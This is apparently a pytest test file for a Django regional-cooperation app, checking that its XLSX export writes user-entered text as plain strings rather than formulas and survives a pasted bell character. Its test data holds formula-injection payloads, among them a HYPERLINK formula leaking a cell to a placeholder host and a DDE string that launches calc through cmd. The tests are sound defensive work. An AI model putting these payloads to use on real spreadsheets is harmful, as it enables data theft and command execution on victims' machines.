"""A region's XLSX export gives the reader texts, never live formulas (issue 8, item 5)."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from kerjasama.affairs.models import Affair
from kerjasama.mapping import services
from kerjasama.regions.models import Region

pytestmark = pytest.mark.django_db

NEEDS = '=HYPERLINK("http://x?leak="&A1,"d")'
OFFERS = "+SUM(1,2)"
EXTERNALITIES = "@cmd|' /C calc'!A0"


def test_it_exports_a_formula_like_identification_as_text(client_as: Any, persona: Any) -> None:
    services.save_identification(
        actor=persona("kabkota"),
        region=Region.objects.get(code="34.71"),
        affair=Affair.objects.get(code="2.09"),
        needs=NEEDS,
        offers=OFFERS,
        externalities=EXTERNALITIES,
    )
    response = client_as("kabkota").get("/pemetaan/34.71/ekspor.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["identifikasi"]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value}
    for text in (NEEDS, OFFERS, EXTERNALITIES):
        assert text in cells, f"{text!r} missing from the export"
        assert cells[text].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_it_exports_an_identification_holding_a_control_character(client_as: Any, persona: Any) -> None:
    # A bell character pasted into a text made openpyxl refuse the workbook (500 on the export).
    services.save_identification(
        actor=persona("kabkota"),
        region=Region.objects.get(code="34.71"),
        affair=Affair.objects.get(code="2.09"),
        needs="Armada\x07 pengangkut sampah",
        offers="",
        externalities="",
    )
    response = client_as("kabkota").get("/pemetaan/34.71/ekspor.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["identifikasi"]
    texts = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert "Armada\ufffd pengangkut sampah" in texts
